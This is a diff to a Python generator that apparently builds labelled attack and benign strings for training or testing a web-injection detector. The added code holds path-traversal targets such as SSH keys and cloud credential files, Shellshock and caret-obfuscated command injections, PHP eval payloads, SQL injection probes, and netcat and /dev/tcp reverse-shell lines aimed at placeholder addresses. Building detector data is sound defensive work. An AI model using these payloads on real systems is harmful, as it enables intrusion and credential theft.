@@ -611,6 +611,201 @@ FAMILIES = [
 ]
 
 
+# ---- families read by grammar alone (a second list, drawn after the benign set so the payloads
+# above stay the same for a given seed) ---------------------------------------------------------
+
+DOTFILES = [".bash_history", ".bashrc", ".bash_profile", ".bash_logout", ".profile", ".zshrc",
+            ".zsh_history", ".cshrc", ".login", ".logout", ".forward", ".netrc", ".rhosts",
+            ".viminfo", ".mysql_history", ".psql_history", ".python_history", ".Xauthority",
+            ".Xdefaults", ".xinitrc", ".git-credentials", ".pgpass", ".ssh/id_rsa",
+            ".ssh/authorized_keys", ".aws/credentials", ".docker/config.json", ".kube/config"]
+
+
+def fam_home_dotfile(rng):
+    f = rng.choice(DOTFILES)
+    home = rng.choice(["~/", "~/", "~root/", "~www-data/", "/", "/root/", "/home/%s/" % rng.choice(["ubuntu", "admin", "web"])])
+    p = home + f
+    k = rng.randrange(5)
+    if k == 1:
+        p = p + "%00"
+    elif k == 2:
+        p = pct_some(rng, p, "/.~")
+    elif k == 3:
+        p = p.replace("/", "//")
+    return p
+
+
+PROC_ENTRIES = ["softirqs", "ioports", "locks", "swaps", "devices", "diskstats", "loadavg",
+                "uptime", "vmstat", "iomem", "kallsyms", "slabinfo", "zoneinfo", "buddyinfo",
+                "self/maps", "self/cwd/index.php", "thread-self/environ", "1/cmdline", "net/arp"]
+SERVER_DIRS = ["/logs", "/log", "/srv/%s/logs", "/usr/local/%s/logs", "/home/%s/conf", "/opt/%s/etc",
+               "/data/%s", "/usr/local/%s/etc", "/var/tmp/%s"]
+SERVERS = ["httpd", "nginx", "mariadb", "pgsql", "ftpd", "panel", "app", "mailer"]
+SERVER_NAMES = ["access.log", "error_log", "transfer_log", "server.err", "main.conf", "site.conf",
+                "settings.ini", "app.cfg", "users.pdb", "master.mdf", "accounts.myd", "client.cnf"]
+DRIVE_TOPS = ["apache24", "mysql", "php", "postgresql", "appserv", "nginx", "tomcat9", "xampp", "wamp64",
+              "Program Files\\MariaDB 10.6", "Program Files\\PostgreSQL\\15", "var\\lib\\pgsql", "etc\\nginx"]
+DRIVE_SUBS = ["logs", "data", "conf", "bin", "etc"]
+
+
+def server_path(rng):
+    d = rng.choice(SERVER_DIRS)
+    if "%s" in d:
+        d = d % rng.choice(SERVERS)
+    return d + "/" + rng.choice(SERVER_NAMES)
+
+
+def drive_path(rng):
+    return rng.choice("cCdD") + ":\\" + rng.choice(DRIVE_TOPS) + "\\" + rng.choice(DRIVE_SUBS) + "\\" + \
+        rng.choice(SERVER_NAMES)
+
+
+def fam_proc_server_file(rng):
+    k = rng.randrange(3)
+    if k == 0:
+        p = "/proc/" + rng.choice(PROC_ENTRIES)
+    elif k == 1:
+        p = server_path(rng)
+    else:
+        p = drive_path(rng)
+        if rng.random() < 0.5:
+            p = p.replace("\\", "/")
+        if rng.random() < 0.2:
+            p = "/" + p.replace("\\", "/")
+    v = rng.randrange(4)
+    if v == 1:
+        p = p + "%00"
+    elif v == 2:
+        p = pct_some(rng, p, "/.\\")
+    return p
+
+
+SHELL_CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /tmp", "ping -c 3 127.0.0.1",
+              "sleep 5", "nslookup x.example.com", "curl http://x.example.com/a", "hostname"]
+
+
+def fam_cmd_grammar(rng):
+    cmd = rng.choice(SHELL_CMDS)
+    k = rng.randrange(5)
+    sep = rng.choice(["", ";", "|", "&", "&&", "%0a"])
+    if k == 0:  # a bash function definition imported from a variable
+        return rng.choice(["() { :; }; ", "() {:;}; ", "() { _; } >_[$($())] { ", "(){ true;};"]) + \
+            rng.choice(["", "/bin/bash -c '", "echo; "]) + cmd + rng.choice(["", "'", " }"])
+    if k == 1:  # a command stored in a variable, then run
+        name = rng.choice(["RUN", "c", "X", "run_1"])
+        q = rng.choice(["$'%s'", '$"%s"', "'%s'", '"%s"', "`%s`"])
+        ref = rng.choice(["$%s", "${%s}"]) % name
+        return sep + name + "=" + (q % cmd) + rng.choice([";", "&&", "|", "\n"]) + ref
+    if k == 2:  # cmd.exe carets inside or before a command name
+        w = rng.choice(["whoami", "ipconfig /all", "ping -n 3 127.0.0.1", "net user", "systeminfo", "tasklist"])
+        name, rest = (w.split(" ", 1) + [""])[:2]
+        name = "".join(c + ("^" if rng.random() < 0.4 and i < len(name) - 1 else "") for i, c in enumerate(name))
+        pre = rng.choice(["^", "", "&", "|", "&&"])
+        return pre + name + (" " + rest if rest else "")
+    if k == 3:  # line breaks written out as \n or \r, as echo -e and templates read them
+        pre = rng.choice(["", "x", "1", "a;", "'", '"'])
+        b = rng.choice(["\\n", "\\r\\n", "\\n\\n"])
+        return pre + b + rng.choice([cmd, "/usr/bin/id", "/bin/ls -al"]) + rng.choice(["", "\\n", ";", "|"])
+    # an interpreter or netcat run with a script, a path or an address as the whole value
+    return rng.choice(["nc -nv 10.0.0.5 9001 -e /bin/sh", "ncat 10.0.0.1 8443 -e /bin/bash", "nc -e /bin/sh 10.0.0.1 9001",
+                       "perl -e 'print 1'", "python -c 'import os;os.system(\"id\")'",
+                       "php -r 'system(\"id\");'", "ruby -e 'exec \"id\"'", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                       "sh -c 'id'", "powershell -c \"Get-Process\"", "telnet -l root 10.0.0.1 23"])
+
+
+def fam_php_eval(rng):
+    call = rng.choice(["phpversion()", "php_uname()", "system('id')", "passthru($_GET[c])", "usleep(900)",
+                       "var_dump(1)", "shell_exec('whoami')", "exec($_POST[x])"])
+    k = rng.randrange(5)
+    if k == 0:
+        return rng.choice(["", " ", "x"]) + "{${" + call + "}}"
+    if k == 1:
+        return rng.choice(["", ";", "x"]) + "${@" + call + "}"
+    if k == 2:
+        return rng.choice([";", "'", "|", ""]) + "{$" + rng.choice(["_GET", "_POST", "_REQUEST", "_COOKIE"]) + \
+            "[" + rng.choice(["'c'", '"cmd"', "x", "0"]) + "]}"
+    if k == 3:
+        return rng.choice([";", "|", "&", "';", "\";", "{", ""]) + rng.choice(["phpcredits()", "phpversion()", "php_uname()"]) + \
+            rng.choice([";", ";//", "", "}"])
+    return rng.choice(["", ";", "';", "|"]) + "eval('" + rng.choice(SHELL_CMDS) + "')" + rng.choice(["", ";", "//"])
+
+
+def fam_sql_string_join(rng):
+    q = rng.choice(["'", '"'])
+    k = rng.randrange(3)
+    if k == 0:
+        mid = rng.choice(["-", "+", "&", "^", "|", " ", "||", " - ", " * ", "/"])
+    elif k == 1:
+        mid = " " + rcase(rng, rng.choice(["or", "and"])) + " " + q + q + rng.choice([" ", "-", "&", "^", "*"])
+    else:
+        mid = rng.choice(["  ", "\t", " + "])
+    return q + mid + q
+
+
+def fam_sql_union_probe(rng):
+    k = rng.randrange(4)
+    if k == 0:
+        pre = rng.choice(["", " ", "'", "\"", "')", "1)", "1"])
+        words = [sql_kw(rng, "union")] + ([sql_kw(rng, rng.choice(["all", "distinct"]))] if rng.random() < 0.5 else []) + \
+            [sql_kw(rng, "select")]
+        return pre + sql_blank(rng) + sql_join(rng, words) + rng.choice(["", "--", "-- -", "#", "/*", ";"])
+    if k == 1:
+        return rng.choice(["", "1", "0"]) + "/*!" + str(rng.choice([50000, 40100, 80011, 32302])) + \
+            rng.choice(["union*/", "'*/", " select 1*/", "and 1=1*/"])
+    if k == 2:
+        a, b = num(rng), num(rng)
+        return "(%s=%s)*%s" % (a, rng.choice([a, b]), num(rng))
+    return rng.choice(["||", "'||", "\"||", "(||"]) + rng.choice(["(elt(2,version(),user()))", "utl_inaddr.get_host_name('x')",
+                                                          "chr(65)", "(select user from dual)", "pg_sleep(5)"])
+
+
+def fam_sql_condition_comment(rng):
+    logic = sql_kw(rng, rng.choice(["or", "and", "OR", "AND"]))
+    cond = rng.choice(["a=b", "k=v", "uid=1", "coalesce(null,1)", "login like char(37,37)", "name like '%'",
+                       "length(user)>0", "ascii(1)>0", "email is null", "1 in (select 1)"])
+    tail = rng.choice(["#", "--", "-- -", "/*", ";", ";--", " limit 1--"])
+    return rng.choice([" ", "", "\t", "+"]) + sql_join(rng, [logic, cond]) + tail
+
+
+HARD_CODE = ["phpinfo() explained", "what phpversion() returns", "~/Downloads", "~/Documents/report.pdf",
+             "x^2 + y^2", "2^10 = 1024", "node -v 18", "python -V", "perl -e", "C:\\fakepath\\debug.log",
+             "/.well-known/security.txt", "/home/user/docs", "union selection", "'s '", "\"*\"", "'%'",
+             "or more -- see below", "Hello ${name}", "()=>{x}", "( ) are brackets {", "{$price} each",
+             "a=b; $a is a variable", "line1\\nline2", "C:\\new\\id", "/opt/out", "/usr/profile", "/proc",
+             "/logs", "bash 5 release notes", "nc state university", "the \"-\" key",
+             "/*! license */", "Union Select Committee", "(3+4)*2"]
+
+
+def benign_code(rng):
+    v = rng.choice(HARD_CODE)
+    return v + rng.choice(["", "", " " + rng.choice(["help", "2024", "tutorial", "?"])])
+
+
+FAMILIES_GRAMMAR = [
+    ("traversal", "home-dotfile", fam_home_dotfile),
+    ("traversal", "proc-and-server-file", fam_proc_server_file),
+    ("cmdi", "shell-grammar-forms", fam_cmd_grammar),
+    ("cmdi", "php-code-evaluation", fam_php_eval),
+    ("SQLi", "string-join", fam_sql_string_join),
+    ("SQLi", "union-probe-comment", fam_sql_union_probe),
+    ("SQLi", "condition-cut-by-comment", fam_sql_condition_comment),
+]
+
+
+def draw(rng, families, per_family, out):
+    for cls, fam, fn in families:
+        seen = set()
+        tries = 0
+        while len(seen) < per_family and tries < per_family * 20:
+            tries += 1
+            p = fn(rng)
+            if rng.random() < 0.15:  # one more layer of percent-encoding on the special bytes
+                p = pct_some(rng, p, "'\"<>/;|&()")
+            if p not in seen:
+                seen.add(p)
+                out.append((cls, fam, p))
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     ap.add_argument("--seed", type=int, default=20261207)
@@ -619,17 +814,7 @@ def main():
     a = ap.parse_args()
     rng = random.Random(a.seed)
     out = []
-    for cls, fam, fn in FAMILIES:
-        seen = set()
-        tries = 0
-        while len(seen) < a.per_family and tries < a.per_family * 20:
-            tries += 1
-            p = fn(rng)
-            if rng.random() < 0.15:  # one more layer of percent-encoding on the special bytes
-                p = pct_some(rng, p, "'\"<>/;|&()")
-            if p not in seen:
-                seen.add(p)
-                out.append((cls, fam, p))
+    draw(rng, FAMILIES, a.per_family, out)
     seen = set()
     tries = 0
     while len(seen) < a.benign and tries < a.benign * 20:
@@ -638,6 +823,16 @@ def main():
         if p not in seen:
             seen.add(p)
             out.append(("benign", "hard-" + fam, p))
+    rng2 = random.Random(a.seed + 1)
+    draw(rng2, FAMILIES_GRAMMAR, a.per_family, out)
+    seen = set()
+    for _ in range(a.per_family * 20):
+        p = benign_code(rng2)
+        if p not in seen:
+            seen.add(p)
+            out.append(("benign", "hard-code", p))
+        if len(seen) >= a.per_family * 2:
+            break
     for cls, fam, p in out:
         print("%s\t%s\t%s" % (cls, fam, urllib.parse.quote(p.encode(), safe="")))
 
